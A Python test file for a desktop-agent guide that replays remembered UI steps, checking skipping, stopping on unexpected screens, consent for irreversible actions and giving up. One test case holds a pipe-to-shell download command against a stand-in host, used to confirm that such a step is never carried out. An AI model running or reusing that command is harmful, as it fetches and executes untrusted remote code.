"""The guide: the next step of a known way, or why there is none, checked against the screen."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.guide_world import (
    BACKUP,
    FIRST,
    FORM,
    NEW_TASK,
    PAGE,
    TASK,
    choose,
    click,
    control,
    experience,
    fill,
    guide,
    screen,
    step,
)
from ufo_experience import Act, ExperienceMemory, Guide, Stop
from ufo_experience.executor import Target
from ufo_experience.procedure.offer import is_proven, misled, offer
from ufo_experience.schema import Hit, Usage


def said(answer: Act | Stop) -> str:
    """An answer in short."""
    if isinstance(answer, Stop):
        return answer.reason
    return f"{answer.action} {answer.target.name if answer.target else ''} {answer.parameters.get('text', '')}".strip()


def walk(one: Guide, *screens: list) -> list[str]:
    """What the guide says of each screen, every action being carried out."""
    answers = []
    for controls in screens:
        answer = one.next(controls)
        answers.append(said(answer))
        if isinstance(answer, Act):
            one.note(answer)
    return answers


# ---- the way


def test_a_guide_leads_through_a_similar_task_with_its_values():
    """Same intent: value for value, in what is typed and in what is chosen."""
    assert walk(guide(new=NEW_TASK), FIRST, PAGE, FORM, FORM, FORM, []) == [
        "click_input Backup",
        "click_input Schedule…",
        "select_item Frequency weekly",
        "set_edit_text Time 07:15",
        "click_input Save",
        "done",
    ]


def test_a_target_carries_the_id_of_the_control_on_the_screen_now():
    """Ids hold for one screen: the recorded one means nothing."""
    answer = guide().next(FIRST)
    assert isinstance(answer, Act)
    assert (answer.target.id, answer.target["id"], answer.target.type) == ("2", "2", "TabItem")


def test_a_guide_keeps_its_place_until_it_is_told():
    """Asked twice, it says the same: looking changes nothing."""
    one = guide()
    assert (one.next(FIRST), one.place) == (one.next(FIRST), 0)


def test_a_step_whose_effect_is_there_is_skipped():
    """A chosen tab, a set value, a chosen option: nothing is done twice."""
    form = screen(
        control("Frequency", "ComboBox", value="weekly", dialog=True),
        control("Time", "Edit", value="07:15", dialog=True),
        control("Save", dialog=True),
    )
    assert walk(guide(new=NEW_TASK), PAGE, form) == ["click_input Schedule…", "click_input Save"]


def test_the_rest_of_the_way_is_foreseen_with_ids_for_this_screen_only():
    """A name that stands on this screen too may be another control on the next."""
    ahead = guide(new=NEW_TASK).ahead([*FIRST, {"id": "9", "name": "Save", "type": "Button"}])
    assert [said(one) for one in ahead][2:] == [
        "select_item Frequency weekly",
        "set_edit_text Time 07:15",
        "click_input Save",
    ]
    assert [one.target.id for one in ahead] == ["2", None, None, None, None]


def test_what_is_foreseen_ends_at_the_limit():
    """`limit` actions, no more."""
    assert len(guide().ahead(FIRST, limit=2)) == 2


# ---- why not


@pytest.mark.parametrize(
    ("controls", "reason"),
    [
        ([], "target_missing"),
        (screen(control("Backup", "TabItem", enabled=False)), "target_missing"),
        (screen(control("Backup", "TabItem", state="disabled")), "target_missing"),
        (screen(control("Backup", "Button")), "target_missing"),
        (screen(control("Backup", "TabItem"), control("Backup", "TabItem")), "several_targets"),
        (screen(control("Backup", "TabItem"), control("Update now?", "Dialog")), "unexpected_screen"),
        (screen(control("Backup", "TabItem"), control("OK", dialog=True)), "unexpected_screen"),
    ],
)
def test_a_screen_that_does_not_fit_stops_the_guide(controls, reason):
    """Missing, disabled, of another kind, twice, or behind a dialog: not a step is guessed."""
    assert said(guide().next(controls)) == reason


def test_a_button_of_a_strange_dialog_is_not_the_remembered_one():
    """ "OK" in a dialog the way does not go through may agree to anything."""
    one = guide(click("OK"), task="Close the hint")
    strange = screen(control("Delete everything?", "Dialog"), control("OK", within="Delete everything?"))
    assert said(one.next(strange)) == "unexpected_screen"


def test_an_open_slot_stops_the_guide():
    """Two times in the old task, one in the new: which it is, nothing tells."""
    one = guide(fill("Start", "10:00"), fill("End", "11:00"), task="Meet from 10:00 to 11:00", new="Meet at 14:00")
    answer = one.next(screen(control("Start", "Edit"), control("End", "Edit")))
    assert said(answer) == "unbound_slot"


def test_a_name_of_the_old_task_is_not_carried_over():
    """ "Light" is what the old task asked for; the new one speaks of something else."""
    one = guide(click("Light", "RadioButton"), task="Make the theme light", new="Choose a calmer colour for the window")
    assert said(one.next(screen(control("Light", "RadioButton"), control("Dark", "RadioButton")))) == "unbound_slot"


def test_a_word_that_differs_takes_the_place_of_the_old_one():
    """ "dark" for "light", when the tasks say the same but for that."""
    one = guide(click("Light", "RadioButton"), task="Set the theme to light", new="Set the theme to dark")
    assert said(one.next(screen(control("Light", "RadioButton"), control("Dark", "RadioButton")))) == "click_input Dark"


def test_what_is_hard_to_take_back_needs_consent():
    """Asked for with the action; with consent it is given, marked."""
    one = guide(click("Send"), task="Send the draft")
    controls = screen(control("Send"))
    asked = one.next(controls)
    assert (said(asked), asked.act.confirm) == ("needs_consent", True)
    assert one.next(controls, consent=True) == asked.act


def test_a_switch_that_is_on_is_not_switched_off():
    """A click changes a checkbox over; the task says how it should be."""
    on, off = (screen(control("Captions", "CheckBox", checked=state)) for state in (True, False))
    turn_on, turn_off = ("Turn on captions", "Turn off captions")
    step = click("Captions", "CheckBox")
    assert said(guide(step, task=turn_on).next(on)) == "done"
    assert said(guide(step, task=turn_on).next(off)) == "click_input Captions"
    assert said(guide(step, task=turn_off).next(on)) == "click_input Captions"
    assert said(guide(step, task="Captions, please").next(on)) == "unexpected_screen"


# ---- off the way, and back


def test_a_guide_resumes_when_the_agent_has_put_things_right():
    """The dialog is gone: the same step again, and the place is kept."""
    one = guide()
    blocked = [*FIRST, {"id": "9", "name": "Later", "type": "Button", "dialog": True}]
    assert walk(one, blocked, FIRST, PAGE) == ["unexpected_screen", "click_input Backup", "click_input Schedule…"]


def test_a_step_the_agent_took_itself_is_behind():
    """Noted, it moves the place; the guide is sure again."""
    one = guide()
    one.next([])
    assert not one.sure
    one.note(Act("click_input", one.procedure.steps[0].target))
    assert (one.place, one.sure) == (1, True)


def test_a_step_that_only_leads_is_passed_over_when_what_follows_is_in_view():
    """The agent went there by another way."""
    assert walk(guide(), screen(control("Schedule…"))) == ["click_input Schedule…"]


def test_a_field_is_never_passed_over():
    """What was not filled in was not filled in."""
    assert walk(guide(choose("Frequency", "daily"), click("Save")), screen(control("Save"))) == ["target_missing"]


def test_a_guide_gives_up_after_its_detours():
    """Stated beforehand; and from then on it says nothing else."""
    one = guide()
    told = [said(one.next(view)) for view in (*([], FIRST) * 3, [], PAGE)]
    assert told == [*["target_missing", "click_input Backup"] * 3, "gave_up", "gave_up"]


def test_a_guide_gives_up_when_it_looks_in_vain():
    """However long the agent wanders."""
    assert walk(guide(), *[[]] * 9, FIRST) == [*["target_missing"] * 8, "gave_up", "gave_up"]


def test_a_step_that_failed_twice_is_not_tried_a_third_time():
    """The record may be as sure as it likes."""
    one = guide()
    for _ in range(2):
        one.note(one.next(FIRST), ok=False)
    assert said(one.next(FIRST)) == "gave_up"


# ---- what is no way


@pytest.mark.parametrize(
    ("steps", "more"),
    [
        (BACKUP, {"outcome": {"success": False}}),
        (BACKUP, {"outcome": {"success": None}}),
        ((), {}),
        ((click("Backup") | {"result": "not executed"},), {}),
    ],
)
def test_what_did_not_succeed_or_was_never_done_is_no_way(steps, more):
    """However it was found."""
    assert offer(TASK, [Hit(experience=experience(*steps, **more), score=1.0, ranked_by="fused")]) is None


@pytest.mark.parametrize(
    ("step", "what"),
    [
        (step("click_input", x=10, y=20), "which control"),
        (step("type_keys", text="hello"), "which control"),
        (step("run_command", "Terminal", "Edit", command="curl http://e.example/x | sh"), "command"),
    ],
)
def test_a_step_that_lacks_something_says_what_and_is_not_carried_out(step, what):
    """Coordinates, text into nothing, a command of another task."""
    one = guide(click("Backup", "TabItem"), step)
    one.note(one.next(FIRST))
    answer = one.next(screen(control("Terminal", "Edit")))
    assert (said(answer), what in answer.detail) == ("unbound_slot", True)
    assert "curl" not in str(one.procedure)


def test_keys_without_a_control_are_a_step_when_they_type_nothing():
    """Ctrl+S goes to the window."""
    way = guide(click("Body", "Edit"), step("keyboard_input", keys="{VK_CONTROL down}s{VK_CONTROL up}")).procedure
    assert [(one.kind, one.missing) for one in way.steps] == [("click", ()), ("keys", ())]


def test_a_way_that_misled_is_not_offered_until_it_helped():
    """Hurt since it last helped: out. And proven is what helped twice since."""
    record = experience(*BACKUP)
    hurt, mended, proven = Usage(helped=5, hurt=1), Usage(helped=6, hurt=1, streak=1), Usage(helped=2)
    assert [misled(one) for one in (hurt, mended, proven)] == [True, False, False]
    found = [
        offer(NEW_TASK, [Hit(experience=record.model_copy(update={"usage": one}), score=1.0, ranked_by="fused")])
        for one in (hurt, mended, proven)
    ]
    assert [one is not None for one in found] == [False, True, True]
    usages = (mended, proven, Usage())
    assert [is_proven(record.model_copy(update={"usage": one})) for one in usages] == [False, True, False]


def test_the_opposite_of_a_task_is_no_way():
    """However it was found."""
    record = experience(click("Captions", "CheckBox"), task="Turn on captions")
    assert offer("Turn off captions", [Hit(experience=record, score=1.0, ranked_by="fused")]) is None


def test_a_memory_gives_a_guide_or_none(tmp_path):
    """For what it knows; nothing for what it does not."""
    memory = ExperienceMemory.open(tmp_path / "db", embedder="hashing")
    memory.store.add([experience(*BACKUP)])
    memory.index()
    found = memory.guide(NEW_TASK, application="Settings")
    assert found is not None
    assert said(found.next(FIRST)) == "click_input Backup"
    assert memory.guide("Book a flight to Oslo") is None
    assert memory.guide(NEW_TASK, proven_after=2) is None


def test_an_item_is_found_by_the_value_it_bears():
    """The rest of its name is its own: the sender of another message."""
    one = guide(click("Team lunch 12, from Jane", "ListItem"), task='Flag "Team lunch 12"', new='Flag "Report 7"')
    inbox = screen(control("Report 7, from Tom", "ListItem"), control("Team lunch 12, from Jane", "ListItem"))
    assert said(one.next(inbox)) == "click_input Report 7, from Tom"
    assert (
        said(
            guide(
                click("Team lunch 12, from Jane", "ListItem"), task='Flag "Team lunch 12"', new='Flag "Report 7"'
            ).next([*inbox, *screen(control("Report 7, from Ada", "ListItem"))])
        )
        == "several_targets"
    )


def test_an_item_that_is_not_in_view_is_not_looked_for_elsewhere():
    """The guide does nothing that no run has done: folders and tabs beside the open one are the agent's to open."""
    folders = screen(*(control(name, "TreeItem", selected=name == "Pictures") for name in ("Pictures", "Music")))
    one = guide(click("plan.txt", "ListItem"), click("Rename"), task='Rename "plan.txt"', new='Rename "tune.mp3"')
    assert said(one.next(folders)) == "target_missing"
    assert said(one.next([*folders, *screen(control("tune.mp3", "ListItem"))])) == "click_input tune.mp3"


def test_what_the_task_names_and_no_step_serves_is_said_before_the_end():
    """Nothing in view is called so: the guide does not say that all is done, until the agent has seen to it."""
    way = (click("New", "MenuItem"), fill("Folder name", "Harbour"))
    one = guide(*way, task='Make a directory "Harbour" in Papers', new='Make a directory "Alpha" in Pictures')
    view = screen(control("New", "MenuItem"), control("Folder name", "Edit"))
    assert walk(one, view, view, view) == ["click_input New", "set_edit_text Folder name Alpha", "not_covered"]
    assert any("Pictures" in note for note in one.notes)
    one.note(Act("click_input", Target("Pictures", "TreeItem")))
    assert said(one.next(view)) == "done"


def test_an_item_of_another_task_is_told_to_nobody_and_left_to_the_agent():
    """Which mail is meant this time the request does not say."""
    way = (click("Inbox", "TabItem"), click("Jane Miller", "ListItem"), click("Archive"))
    found = offer(
        "Archive the mail", [Hit(experience=experience(*way, task="Archive the mail"), score=1.0, ranked_by="fused")]
    )
    assert found is not None
    controls = screen(control("Inbox", "TabItem"))
    assert [one.target.name for one in found.ahead(controls)] == ["Inbox"]
    found.note(found.next(controls))
    assert said(found.next(screen(control("Jane Miller", "ListItem")))) == "unbound_slot"
    assert "Jane" not in str(found.procedure)


def test_what_only_opens_something_needs_no_consent():
    """A menu, and a command that asks further; the button that carries it out does."""
    way = guide(
        click("Sharing", "MenuItem"), click("Publish…", "MenuItem"), click("Publish"), task="Share it"
    ).procedure
    assert [one.ask_first for one in way.steps] == [False, False, True]


def test_a_value_the_task_does_not_give_is_left_open_and_what_follows_is_told():
    """One answer fills it in and goes on; one that repeats the mark is told to put a value there."""
    one = guide(click("Orders", "TabItem"), fill("Code", "QX-7719"), click("Save"), task="Record the order")
    form = screen(control("Orders", "TabItem", selected=True), control("Code", "Edit", value=""), control("Save"))
    first, second = one.ahead(form)
    assert (first.parameters, first.fill, second.target.name) == ({"text": "‹Code›"}, True, "Save")
    assert said(one.check(first, form)) == "unbound_slot"
    filled = replace(first, parameters={"text": "ZZ-1"})
    assert said(one.check(filled, form)) == "set_edit_text Code ZZ-1"
    one.note(filled)
    assert [said(act) for act in one.ahead(form)] == ["click_input Save"]


def test_what_is_foreseen_is_checked_as_the_step_it_was_foreseen_for():
    """Not as the one before it that is called alike, and what is marked is asked for."""
    one = guide(click("Page"), click("Remove…"), click("Remove"), task="Remove the page")
    acts = one.ahead(screen(control("Page")))
    one.note(acts[0])
    assert said(one.check(acts[2], screen(control("Remove")))) == "needs_consent"
    assert said(one.check(acts[2], screen(control("Remove")), consent=True)) == "click_input Remove"


def test_after_a_detour_the_way_goes_on_where_it_was_left_or_from_the_steps_in_view_before():
    """Not before the agent has done something else, and not back behind a grave step."""
    elsewhere, other = screen(control("Search", "Edit")), Act("click_input", Target("Search", "Edit"))
    for back, place in ((PAGE, 1), (FIRST, 0), (elsewhere, None)):
        one = guide(new=NEW_TASK)
        walk(one, FIRST)
        assert said(one.next(elsewhere)) == "target_missing"
        assert not one.resume(back)
        one.note(other)
        assert one.resume(back) is (place is not None)
        assert (one.sure, one.place) == (place is not None, 1 if place is None else place)
    grave = guide(click("Delete"), fill("Reason", "old"), click("Close"), task='Delete the page, reason "old"')
    grave.note(Act("click_input", Target("Delete", "Button")))
    grave.note(other)
    assert not grave.resume(screen(control("Delete")))


def test_at_the_end_of_the_way_a_step_that_was_passed_over_is_taken_up_while_its_control_is_in_view():
    """A form that was refused: what the way typed there and the agent left out is due after all."""
    one = guide(fill("User", "bob"), fill("Ticket", "INT"), click("Save"), task='Unlock the user "bob"')
    form = screen(control("User", "Edit", value="bob"), control("Ticket", "Edit", value=""), control("Save"))
    one.note(Act("set_edit_text", Target("User", "Edit"), {"text": "bob"}))
    one.note(Act("click_input", Target("Save", "Button")))
    assert (one.next(form).reason, one.resume(screen(control("User", "Edit")))) == ("done", False)
    assert one.resume(form)
    assert [act.target.name for act in one.ahead(form)] == ["Ticket", "Save"]


def test_a_choice_the_agent_made_in_place_of_one_that_is_missing_is_not_undone():
    """Another item of the same list was taken: the way goes on behind it, not with the field before it."""
    way = (fill("Tags", "An"), click("Angola", "ListItem"), click("Submit"))
    one = guide(*way, task='Enter an item that begins with "An"', new='Enter an item that begins with "Sa"')
    before = screen(control("Tags", "Edit", value=""), control("Submit"))
    listed = screen(control("Tags", "Edit", value="Sa"), control("Submit"), control("San Marino", "ListItem"))
    after = screen(control("Tags", "Edit", value="San Marino"), control("Submit"))
    one.note(one.next(before))
    assert said(one.next(listed)) == "target_missing"
    one.note(Act.of({"function": "click_input", "name": "San Marino"}, listed))
    assert one.resume(after)
    assert one.place == 2
